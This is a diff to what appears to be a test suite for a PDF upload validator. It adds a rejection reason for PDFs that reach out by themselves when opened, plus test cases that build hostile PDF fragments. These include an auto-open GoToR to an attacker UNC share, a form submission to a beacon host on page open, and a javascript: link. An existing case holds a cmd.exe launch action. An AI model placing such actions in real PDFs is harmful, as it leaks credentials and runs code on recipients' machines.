@@ -270,6 +270,7 @@ class Case:
 PDF_INVALID = "not a readable PDF (header, cross-reference or trailer)"
 PDF_END = "the PDF is truncated or has data after its end"
 JAVASCRIPT = ("content", "the PDF contains JavaScript")
+REACHES_OUT = ("content", "the PDF reaches out to another file or address by itself when opened")
 LAUNCH = ("content", "the PDF contains a launch action")
 EMBEDDED = ("content", "the PDF contains embedded files")
 HTML = ("content", "HTML or script content is not accepted")
@@ -499,6 +500,38 @@ CASES = [
         "PDF with a launch action in a compressed object stream",
         lambda: object_stream_pdf(b"<< /S /Launch /F (cmd.exe) >>"),
         LAUNCH,
+    ),
+    Case(
+        "PDF that opens a file on a UNC path by itself",
+        lambda: minimal_pdf(
+            catalog=b" /OpenAction << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>"
+        ),
+        REACHES_OUT,
+    ),
+    Case(
+        "PDF whose page posts a form when opened, after a harmless action",
+        lambda: minimal_pdf(
+            page=b" /AA << /O << /S /GoTo /D [0 /Fit] "
+            b"/Next << /S /SubmitForm /F (https://beacon.example/) >> >> >>"
+        ),
+        REACHES_OUT,
+    ),
+    Case(
+        "PDF with a javascript: link",
+        lambda: minimal_pdf(
+            page=b" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
+            b"/A << /S /URI /URI (JavaScript:alert\\(1\\)) >> >>]"
+        ),
+        JAVASCRIPT,
+    ),
+    Case(
+        "PDF with a web link a person may follow, and an opening page",
+        lambda: minimal_pdf(
+            catalog=b" /OpenAction [3 0 R /Fit]",
+            page=b" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
+            b"/A << /S /URI /URI (https://www.my.gov.sa/) >> >>]",
+        ),
+        Accepted(Kind.PDF, pages=1),
     ),
     Case("PDF with an embedded file", lambda: written_pdf(with_attachment), EMBEDDED),
     Case(
